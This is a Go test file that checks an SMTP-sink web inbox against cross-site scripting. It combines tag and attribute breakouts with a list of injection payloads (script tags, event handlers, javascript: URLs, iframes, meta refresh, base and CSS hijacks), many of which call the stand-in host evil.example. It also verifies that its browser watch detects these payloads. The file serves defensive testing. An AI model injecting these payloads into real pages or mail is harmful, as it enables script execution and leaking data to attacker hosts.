package smtpsink_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"latchkey/adapters/smtpsink"
)

// attacks are at least 200 ways out of the places that a mail's words stand in, each with a way to run: they open a
// dialog or ask evil.example, which both are seen.
func attacks() []string {
	outOf := []string{
		"", `">`, `'>`, "`>", `--></style></script></title></textarea></noscript>`, `</pre></bdi></dd></dl></a></section>`,
		`\"></iframe></template></svg></math>`,
	}
	intoRunning := []string{
		`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
		`<img src=//evil.example/i.png>`, `<svg onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<svg><use href="//evil.example/x.svg#a">`, `<iframe src=//evil.example/f>`, `<iframe srcdoc="<script>parent.alert(1)</script>">`,
		`<iframe src="javascript:parent.alert(1)">`, `<object data=//evil.example/o></object>`, `<embed src=//evil.example/e>`,
		`<meta http-equiv=refresh content="0;url=http://evil.example/m">`, `<base href=//evil.example/><img src=b.png>`,
		`<link rel=stylesheet href=//evil.example/s.css>`, `<link rel=prefetch href=//evil.example/p>`, `<link rel=preconnect href=//evil.example>`,
		`<style>@import '//evil.example/i.css';*{background:url(//evil.example/b)}</style>`, `<body background=//evil.example/bg onload=alert(1)>`,
		`<details open ontoggle=alert(1)>x</details>`, `<input autofocus onfocus=alert(1)>`, `<video src=//evil.example/v onerror=alert(1) autoplay>`,
		`<audio src=//evil.example/a onerror=alert(1) autoplay></audio>`, `<marquee onstart=alert(1)>x</marquee>`,
		`<form action=//evil.example/form id=f><input name=q></form><script>f.submit()</script>`, `<p style="background:url(//evil.example/st)">x</p>`,
		`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<picture><source srcset=//evil.example/ss><img src=x></picture>`,
		`" autofocus onfocus=alert(1) x="`, `' onmouseover='alert(1)' style='position:fixed;inset:0`, `{{constructor.constructor('alert(1)')()}}`,
		`<table background=//evil.example/t><tr><td>x</table>`,
	}
	var all []string
	for _, out := range outOf {
		for _, in := range intoRunning {
			all = append(all, out+in)
		}
	}
	return all
}

func TestBrowserRunsNothingOfAMail(t *testing.T) {
	b := startBrowser(t)
	all := attacks()
	if len(all) < 200 {
		t.Fatalf("got %d attacks, want 200", len(all))
	}
	const batch = 32
	v := b.open(t, smtpsink.Config{Limits: smtpsink.Limits{Mails: batch + 1}})
	id := 0
	for mails := range slices.Chunk(all, batch) {
		for _, attack := range mails {
			v.send(hostileMail(attack))
		}
		// As text the attacks of a batch cannot get into each other's way, so they are looked at together.
		v.send("X-Evil: " + strings.Join(mails, "\nX-Evil: ") + "\n\n" + strings.Join(mails, "\n") + "\n")
		for _, attack := range mails {
			id++
			// The HTML in its frame, and the title, list, search, sender, subject and file name around it.
			v.visit(fmt.Sprintf("/inbox/mail/%d?q=%s", id, url.QueryEscape(attack)))
		}
		v.visit(fmt.Sprintf("/inbox/mail/%d/html", id)) // what the frame shows, on its own
		id++
		for _, face := range []string{"text", "headers", "source"} {
			v.visit(fmt.Sprintf("/inbox/mail/%d?view=%s", id, face))
		}
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	if len(v.fired) != 0 {
		t.Errorf("dialogs: %q", v.fired)
	}
	if got := b.strangerAsked(); len(got) != 0 {
		t.Errorf("evil.example was asked: %q", got)
	}
	if len(v.requests) < 2*len(all) {
		t.Errorf("got %d requests for %d attacks, want the pages to have been loaded", len(v.requests), len(all))
	}
}

// The watch that the test above keeps does see what it is there to see.
func TestBrowserWatchBites(t *testing.T) {
	b := startBrowser(t)
	v := b.open(t, smtpsink.Config{})
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if n, err := strconv.Atoi(r.URL.RawQuery); err == nil {
			_, _ = fmt.Fprint(w, "<!doctype html><title>x</title>", attacks()[n])
		}
	}))
	defer careless.Close()
	for n := range 5 { // a dialog, a foreign script, a dialog, a foreign picture, a dialog
		v.run(chromedp.Navigate(fmt.Sprintf("%s/?%d", careless.URL, n)))
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	if len(v.fired) != 3 || len(b.strangerAsked()) != 2 {
		t.Errorf("got dialogs %q and requests %q, want 3 and 2", v.fired, b.strangerAsked())
	}
}
